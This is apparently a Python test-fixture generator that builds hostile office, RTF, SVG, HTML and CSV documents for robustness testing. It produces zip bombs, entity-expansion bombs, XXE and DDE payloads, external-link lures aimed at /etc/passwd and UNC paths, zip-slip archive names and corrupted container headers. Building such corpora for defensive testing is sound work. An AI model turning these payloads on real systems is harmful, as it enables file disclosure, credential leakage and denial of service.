"""Office documents that mean harm: archives that inflate, call, nest, lie or lead elsewhere, and the formats before them."""

import io
import struct
import zipfile

from numbered import every, family
from structures import ADDRESS

MIB = 1 << 20
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OPEN = "urn:oasis:names:tc:opendocument:xmlns:"
PLACES = (ADDRESS.decode(), "file:///etc/passwd", "../../../../../etc/passwd", "\\\\127.0.0.1\\share\\x", "vnd.sun.star.script:x$y")


def archive(entries, packing=zipfile.ZIP_DEFLATED):
    """A ZIP archive of (name, text or bytes)."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", packing) as file:
        for name, content in entries:
            file.writestr(name, content)
    return made.getvalue()


def addressed(data, port):
    """The file, calling this port of ours where it calls anybody."""
    def change(part):
        return part.replace(ADDRESS, ADDRESS.replace(b"PORT", b"%d" % port))
    if not data.startswith(b"PK\3\4") or ADDRESS not in data:
        return change(data)
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return archive([(name, change(file.read(name))) for name in file.namelist()])


def docx(body, more=(), relations="", packing=zipfile.ZIP_DEFLATED):
    types = (f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    top = (f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{LINKS}/officeDocument" '
           'Target="word/document.xml"/></Relationships>')
    return archive([("[Content_Types].xml", types), ("_rels/.rels", top), ("word/document.xml", f'<w:document {WORD} xmlns:r="{LINKS}" '
                    f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>{body}</w:body></w:document>'),
                    ("word/_rels/document.xml.rels", f'<Relationships xmlns="{PACKAGE}/relationships">{relations}</Relationships>'), *more], packing)


NAMESPACES = " ".join(f'xmlns:{short}="{address}"' for short, address in {
    "office": f"{OPEN}office:1.0", "text": f"{OPEN}text:1.0", "table": f"{OPEN}table:1.0", "draw": f"{OPEN}drawing:1.0",
    "xlink": "http://www.w3.org/1999/xlink"}.items())


def flat(kind, body, before=""):
    """An OpenDocument file that is one piece of XML."""
    return (f'<?xml version="1.0"?>{before}<office:document {NAMESPACES} office:version="1.2" office:mimetype="application/vnd.oasis.'
            f'opendocument.{kind}"><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document>').encode()


def open_document(kind, body, more=()):
    mime = f"application/vnd.oasis.opendocument.{kind}"
    manifest = (f'<m:manifest xmlns:m="{OPEN}manifest:1.0"><m:file-entry m:full-path="/" m:media-type="{mime}"/>'
                '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>')
    content = (f'<office:document-content {NAMESPACES} office:version="1.2"><office:body><office:{kind}>{body}</office:{kind}>'
               '</office:body></office:document-content>')
    return archive([("mimetype", mime), ("META-INF/manifest.xml", manifest), ("content.xml", content), *more])


# --- that inflate ---


FILLINGS = {"spaces": " ", "letters": "a", "paragraphs": "<text:p>a</text:p>", "breaks": "<text:line-break/>", "tabs": "<text:tab/>"}


@family((MIB, 64 * MIB, 128 * MIB), list(FILLINGS))
def office_bomb(total, filling):
    piece = FILLINGS[filling]
    inside = piece * (total // len(piece))
    return open_document("text", inside if filling == "paragraphs" else f"<text:p>{inside}</text:p>"), "odt"


@family((MIB, 64 * MIB, 128 * MIB), ("Pictures/1.png", "styles.xml", "settings.xml", "META-INF/documentsignatures.xml", "meta.xml"))
def office_bomb_beside(total, name):
    return open_document("text", '<text:p>a<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame></text:p>',
                         [(name, bytes(total))]), "odt"


@family((1, 1000, 1_048_576, 2 ** 31 - 1), (1, 100, 16_384, 2 ** 31 - 1), ("ods", "fods"))
def office_table_repeats(rows, columns, extension):
    body = (f'<table:table table:name="a"><table:table-row table:number-rows-repeated="{rows}"><table:table-cell office:value-type="string" '
            f'table:number-columns-repeated="{columns}"><text:p>a</text:p></table:table-cell></table:table-row></table:table>')
    return flat("spreadsheet", body) if extension == "fods" else open_document("spreadsheet", body), extension


@family((1, 2, 8, 12), (2, 10), ("fodt", "xml", "svg"))
def office_entities_grow(depth, times, extension):
    names = "".join(f'<!ENTITY e{at + 1} "{f"&e{at};" * times}">' for at in range(depth))
    before = f'<!DOCTYPE x [<!ENTITY e0 "aaaaaaaaaa">{names}]>'
    if extension == "svg":
        return f'{before}<svg xmlns="http://www.w3.org/2000/svg"><text>&e{depth};</text></svg>'.encode(), "svg"
    return flat("text", f"<text:p>&e{depth};</text:p>", before), extension


# --- that call, or look elsewhere ---


@family(PLACES, ("attachedTemplate", "image", "oleObject", "subDocument", "frame", "hyperlink", "aFChunk"))
def office_relation(place, kind):
    outside = f'<Relationship Id="r9" Type="{LINKS}/{kind}" Target="{place}" TargetMode="External"/>'
    settings = (f'<w:settings {WORD} xmlns:r="{LINKS}"><w:attachedTemplate r:id="r9"/></w:settings>')
    more = [("word/settings.xml", settings),
            ("word/_rels/settings.xml.rels", f'<Relationships xmlns="{PACKAGE}/relationships">{outside}</Relationships>')]
    relations = outside + f'<Relationship Id="r1" Type="{LINKS}/settings" Target="settings.xml"/>'
    body = ('<w:subDoc r:id="r9"/><w:altChunk r:id="r9"/><w:p><w:r><w:t>a</w:t></w:r><w:r><w:drawing><a:graphic><a:graphicData>'
            '<a:blip r:link="r9"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>')
    return docx(body, more, relations, zipfile.ZIP_STORED), "docx"  # so that the address is found, and filled in


CALLS = {
    "image": ("fodt", 'text', '<text:p>a<draw:frame><draw:image xlink:href="PLACE"/></draw:frame></text:p>'),
    "section": ("fodt", "text", '<text:section text:name="a"><text:section-source xlink:href="PLACE"/><text:p>a</text:p></text:section>'),
    "object": ("fodt", "text", '<text:p><draw:frame><draw:object xlink:href="PLACE" xlink:show="embed"/></draw:frame></text:p>'),
    "floating": ("fodt", "text", '<text:p><draw:frame><draw:floating-frame xlink:href="PLACE"/></draw:frame></text:p>'),
    "dde": ("fodt", "text", '<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="soffice" '
            'office:dde-topic="PLACE" office:dde-item="a" office:automatic-update="true"/></text:dde-connection-decls><text:p>a</text:p>'),
    "webservice": ("fods", "spreadsheet", '<table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=WEBSERVICE('
                   '&quot;PLACE&quot;)"/></table:table-row></table:table>'),
    "sheet": ("fods", "spreadsheet", '<table:table table:name="a"><table:table-source xlink:href="PLACE" table:mode="copy-all" '
              'table:refresh-delay="PT1S"/><table:table-row><table:table-cell/></table:table-row></table:table>'),
}


@family(list(CALLS), PLACES)
def office_calls(name, place):
    extension, kind, body = CALLS[name]
    return flat(kind, body.replace("PLACE", place)), extension


PLAIN_CALLS = {
    "html": '<html><head><link rel="stylesheet" href="PLACE"><base href="PLACE"><meta http-equiv="refresh" content="0;url=PLACE"></head>'
            '<body background="PLACE"><img src="PLACE"><iframe src="PLACE"></iframe><object data="PLACE"></object><script src="PLACE">'
            "</script>a</body></html>",
    "rtf": r'{\rtf1{\*\template PLACE}{\field{\*\fldinst INCLUDEPICTURE "PLACE"}}{\field{\*\fldinst INCLUDETEXT "PLACE"}}'
           r'{\field{\*\fldinst DDEAUTO soffice "PLACE" a}}{\object\objautlink{\*\objclass Word.Document.8}}a}',
    "csv": '=WEBSERVICE("PLACE"),=HYPERLINK("PLACE"),=DDE("soffice";"PLACE";"a1")\n',
    "slk": 'ID;PWXL;N;E\nC;X1;Y1;K0;EWEBSERVICE("PLACE")\nE\n',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9" '
           'xlink:href="PLACE"/><use xlink:href="PLACE#a"/><style>@import url(PLACE);</style></svg>',
    "fodt": '<?xml version="1.0"?><!DOCTYPE x SYSTEM "PLACE" [<!ENTITY a SYSTEM "PLACE"><!ENTITY % b SYSTEM "PLACE">%b;]><x>&a;</x>',
}


@family(list(PLAIN_CALLS), PLACES)
def plain_text_calls(extension, place):
    return PLAIN_CALLS[extension].replace("PLACE", place).encode(), extension


# --- that nest, or lie ---


NESTS = {
    "fodt": (b"<text:section text:name='a'>", b"</text:section>", flat("text", "<text:p>a</text:p>@").split(b"@")),
    "html": (b"<table><tr><td>", b"</td></tr></table>", (b"<html><body>a", b"</body></html>")),
    "rtf": (b"{", b"}", (rb"{\rtf1 a", b"}")),
    "svg": (b"<g>", b"</g>", (b'<svg xmlns="http://www.w3.org/2000/svg">', b"</svg>")),
    "csv": (b"=((", b"))", (b"a\n=1+", b"\n")),
}


@family((10, 1000, 100_000), list(NESTS), (True, False))
def office_nesting(depth, extension, closed):
    opening, closing, (before, after) = NESTS[extension]
    return before + opening * depth + (closing * depth if closed else b"") + after, extension


@family((b"\\bin2147483647 ", b"\\bin-1 ", b"\\uc99999\\u-1 ", b"{\\pict\\pngblip\\picw2147483647\\pich2147483647 89504e47}",
         b"{\\object\\objemb{\\*\\objdata 0105000002000000ffffffff}}", b"\\trowd\\cellx2147483647\\cell\\row", b"\\fs2147483647 ",
         b"{\\fonttbl{\\f2147483647 a;}}", b"\\paperw0\\paperh0 ", b"\\paperw2147483647\\paperh2147483647 ", b"\\li-2147483648 "), (1, 1000))
def rtf_lies(lie, times):
    return b"{\\rtf1 " + lie * times + b"a}", "rtf"


NAMES = ("../../outside", "/tmp/outside", "content.xml/../../outside", "word\\..\\..\\outside", "a" * 5000, " ")


@family(NAMES, (1, 100, 5000))
def archive_names(name, times):
    return open_document("text", "<text:p>a</text:p>", [(name + (str(at) if at else ""), "outside") for at in range(times)]), "odt"


@family((14, 18, 22, 26, 28, 30), (0, 1, 0xffff, 0xffffffff), ("local", "central"))
def archive_heads_lie(offset, value, where):
    """One field of every entry's head: its method, its sizes, the lengths of its names."""
    data = bytearray(open_document("text", "<text:p>a</text:p>"))
    mark, shift = (b"PK\3\4", 0) if where == "local" else (b"PK\1\2", 2)
    at = data.find(mark)
    while at >= 0:
        width = 4 if offset < 26 else 2
        data[at + offset + shift:at + offset + shift + width] = (value & (1 << 8 * width) - 1).to_bytes(width, "little")
        at = data.find(mark, at + 4)
    return bytes(data), "odt"


@family(range(1, 100, 7), ("odt", "docx"))
def archive_cut_off(percent, extension):
    data = open_document("text", "<text:p>a</text:p>") if extension == "odt" else docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>")
    return data[:len(data) * percent // 100], extension


@family(("doc", "xls", "ppt", "pub", "vsd"), (0, 1, 0xfffffffe, 0x7fffffff), (9, 6, 0, 30), (0, 2, 0xfffffffd))
def compound_file_lies(extension, first, sector, table):
    """The container of formats before 2007: sector sizes, and tables that lead to themselves."""
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHHHIIIIIIIIII", 0x3e, 3, 0xfffe, sector, 6, 0, 0, 0, 1, first, 0,
                                                                      4096, table, 1, first, 1)
    head += struct.pack("<109I", *every([table], [0xffffffff] * 108))
    return head + struct.pack("<128I", *([table] * 128)) * 3, extension
